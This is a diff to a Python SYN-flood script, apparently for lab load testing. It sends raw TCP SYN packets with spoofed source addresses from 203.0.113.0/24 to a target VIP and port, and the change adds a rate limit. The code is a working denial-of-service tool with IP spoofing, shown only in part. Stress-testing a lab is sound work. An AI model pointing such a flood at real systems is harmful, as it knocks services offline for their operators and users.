@@ -1,9 +1,10 @@
 #!/usr/bin/env python3
-"""SYN flood for the lab, from a raw socket as fast as one core sends: TCP SYNs to
+"""SYN flood for the lab, from a raw socket at RATE frames a second (0: as fast as one core
+sends): TCP SYNs to
 VIP:PORT from spoofed sources spread over 203.0.113.0/24 (a documentation range, so the
 backends' answers stay in the lab) and every source port, each a new 4-tuple, with valid
 checksums. Seeded. Prints how many it sent.
-usage: syn_flood.py IFACE DST_MAC VIP PORT SECONDS [SEED]"""
+usage: syn_flood.py IFACE DST_MAC VIP PORT SECONDS RATE [SEED]"""
 
 import random
 import socket
@@ -12,7 +13,8 @@ import sys
 import time
 
 IFACE, DST_MAC, VIP, PORT, SECONDS = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
-rng = random.Random(int(sys.argv[6]) if len(sys.argv) > 6 else 1)
+RATE = float(sys.argv[6])
+rng = random.Random(int(sys.argv[7]) if len(sys.argv) > 7 else 1)
 
 
 def fold(s):
@@ -34,10 +36,15 @@ ip_fixed = fold(0x4500 + 40 + 64 * 256 + 6 + vip_sum)
 tcp_fixed = fold(6 + 20 + vip_sum + PORT + (5 << 12 | 0x02) + 65535)
 
 sent = 0
-deadline = time.monotonic() + SECONDS
+start = time.monotonic()
+deadline = start + SECONDS
 while True:
-    if sent % 256 == 0 and time.monotonic() > deadline:
-        break
+    if sent % 256 == 0:
+        now = time.monotonic()
+        if now > deadline:
+            break
+        if RATE > 0 and sent / RATE > now - start:
+            time.sleep(sent / RATE - (now - start))  # the pace asked for
     host = rng.randrange(1, 255)
     sport = rng.randrange(1024, 65536)
     seq = rng.getrandbits(32)
